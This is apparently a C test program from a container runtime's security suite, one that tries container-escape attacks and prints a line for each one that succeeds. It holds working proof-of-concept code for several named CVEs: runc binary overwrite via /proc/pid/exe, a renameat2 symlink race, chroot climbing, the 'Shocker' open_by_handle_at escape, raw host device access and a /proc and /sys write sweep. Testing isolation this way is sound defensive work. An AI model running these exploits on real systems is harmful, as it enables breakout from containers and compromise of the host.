/* Attacks from inside a container (and one from a shared volume), one per word of the command line.
 * Each prints one line per success; silence means that the fence held. Compiled statically by tests/security/conftest.py.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <time.h>
#include <unistd.h>

static const char *target_of(const char *format, const char *pid, const char *name) {
    static char target[PATH_MAX];
    char path[PATH_MAX];
    snprintf(path, sizeof path, format, pid, name);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0) return NULL;
    target[length] = 0;
    return target;
}

/* CVE-2016-9962: look into every process that appears, while it is still on its way from the host into the container. */
static void spy_on(const char *pid) {
    char path[PATH_MAX];
    const char *exe = target_of("/proc/%s/%s", pid, "exe");
    if (exe && strstr(exe, "ringinit")) printf("sees the executable %s\n", exe);
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    DIR *descriptors = opendir(path);
    for (struct dirent *entry; descriptors && (entry = readdir(descriptors));) {
        const char *target = isdigit(entry->d_name[0]) ? target_of("/proc/%s/fd/%s", pid, entry->d_name) : NULL;
        if (target) printf("sees the descriptor %s\n", target);
    }
    if (descriptors) closedir(descriptors);
    snprintf(path, sizeof path, "/proc/%s/root/", pid);
    struct stat theirs, ours;
    if (stat(path, &theirs) == 0 && stat("/", &ours) == 0 && (theirs.st_dev != ours.st_dev || theirs.st_ino != ours.st_ino))
        printf("reaches another root through /proc/%s/root\n", pid);
    snprintf(path, sizeof path, "/proc/%s/cwd/", pid);
    int cwd = open(path, O_RDONLY | O_DIRECTORY);
    if (cwd >= 0) {
        char name[PATH_MAX];
        if (fchdir(cwd) == 0 && syscall(SYS_getcwd, name, sizeof name) > 0 && name[0] != '/')
            printf("reaches %s through /proc/%s/cwd\n", name, pid);
        close(cwd);
    }
}

/* CVE-2019-5736: keep the executable of whoever enters, and write to it once it is no longer running. */
static void overwrite(const char *pid) {
    char path[PATH_MAX], again[64];
    const char *exe = target_of("/proc/%s/%s", pid, "exe");
    if (!exe || !strstr(exe, "ringinit")) return;
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int held = open(path, O_RDONLY);
    if (held < 0) held = open(path, O_PATH);
    if (held < 0) return;
    snprintf(again, sizeof again, "/proc/self/fd/%d", held);
    for (int attempt = 0; attempt < 2000; attempt++) {
        int writable = open(again, O_WRONLY);
        if (writable < 0 && errno != ETXTBSY) break;
        if (writable >= 0 && write(writable, "#!/pwned", 8) == 8) { puts("wrote to the helper"); break; }
        if (writable >= 0) close(writable);
    }
    close(held);
}

static void for_every_other_process(void (*attack)(const char *)) {
    DIR *processes = opendir("/proc");
    char own[32];
    snprintf(own, sizeof own, "%d", getpid());
    for (struct dirent *entry; processes && (entry = readdir(processes));)
        if (isdigit(entry->d_name[0]) && strcmp(entry->d_name, own)) attack(entry->d_name);
    if (processes) closedir(processes);
}

static double now(void) {
    struct timespec time;
    clock_gettime(CLOCK_MONOTONIC, &time);
    return time.tv_sec + time.tv_nsec / 1e9;
}

/* CVE-2021-30465, CVE-2024-45310: a directory and a symlink change places, for ever. */
static void swap(const char *one, const char *other) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */);
}

/* The old way out of a chroot: hold the old root, change root below it, and climb. */
static void climb(void) {
    struct stat root, top;
    int held = open("/", O_RDONLY | O_DIRECTORY);
    stat("/", &root);
    mkdir("/below", 0700);
    if (chroot("/below") || fchdir(held)) { perror("chroot"); return; }
    for (int level = 0; level < 64; level++)
        if (chdir("..")) break;
    stat(".", &top);
    if (top.st_ino != root.st_ino || top.st_dev != root.st_dev) puts("climbed out of the root");
}

/* "Shocker": open a file of the volume's file system by a made-up handle, inode 2 being its root. */
static void open_by_handle(const char *volume) {
    struct { unsigned bytes; int type; unsigned inode, generation; } handle = { 8, 1, 2, 0 };
    int mount = open(volume, O_RDONLY | O_DIRECTORY);
    long fd = syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
    if (fd >= 0) puts("opened the root of the host's file system by handle");
    else if (errno != EPERM) printf("open_by_handle_at: %s\n", strerror(errno));
}

/* The host's disk, named by its number. */
static void raw_device(unsigned major_number, unsigned minor_number, const char *type) {
    mode_t mode = *type == 'b' ? S_IFBLK : S_IFCHR;
    const char *path = "/node";
    if (mknod(path, mode | 0600, makedev(major_number, minor_number)) && errno != EEXIST) return;
    int fd = open(path, O_RDWR);
    if (fd < 0) fd = open(path, O_RDONLY);
    if (fd >= 0) printf("opened device %s %u:%u\n", type, major_number, minor_number);
    unlink(path);
}

static void own_descriptors(void) {
    char path[64];
    for (int fd = 0; fd < 1024; fd++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        if (fcntl(fd, F_GETFD) >= 0) printf("%d %s\n", fd, target_of("/proc/%s/%s", "self", path + 11));
    }
}

/* Every file below /proc and /sys but those of processes: which can be opened for writing, which tell something. Opening
 * harms nobody. Links are not followed: what they name is met on its own way. */
static void sweep(const char *directory) {
    DIR *listing = opendir(directory);
    for (struct dirent *entry; listing && (entry = readdir(listing));) {
        char path[PATH_MAX], byte;
        struct stat st;
        if (isdigit(entry->d_name[0]) && !strcmp(directory, "/proc")) continue;
        if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
        if (snprintf(path, sizeof path, "%s/%s", directory, entry->d_name) >= (int)sizeof path || lstat(path, &st)) continue;
        if (S_ISDIR(st.st_mode)) sweep(path);
        if (!S_ISREG(st.st_mode)) continue;
        int fd = st.st_mode & 0222 ? open(path, O_WRONLY | O_NONBLOCK) : -1; /* the others open for root, but take nothing */
        if (fd >= 0) printf("writes %s\n", path), close(fd);
        fd = open(path, O_RDONLY | O_NONBLOCK);
        if (fd >= 0 && read(fd, &byte, 1) > 0) printf("reads %s\n", path);
        if (fd >= 0) close(fd);
    }
    if (listing) closedir(listing);
}

int main(int count, char **words) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    const char *word = count > 1 ? words[1] : "";
    double end = now() + (count > 2 ? atof(words[2]) : 0);
    if (!strcmp(word, "spy")) while (now() < end) for_every_other_process(spy_on);
    else if (!strcmp(word, "overwrite")) while (now() < end) for_every_other_process(overwrite);
    else if (!strcmp(word, "swap") && count == 4) swap(words[2], words[3]);
    else if (!strcmp(word, "climb")) climb();
    else if (!strcmp(word, "handle") && count == 3) open_by_handle(words[2]);
    else if (!strcmp(word, "device") && count == 5) raw_device(atoi(words[3]), atoi(words[4]), words[2]);
    else if (!strcmp(word, "descriptors")) own_descriptors();
    else if (!strcmp(word, "sweep")) sweep("/proc"), sweep("/sys");
    else { fprintf(stderr, "unknown attack %s\n", word); return 2; }
    return 0;
}
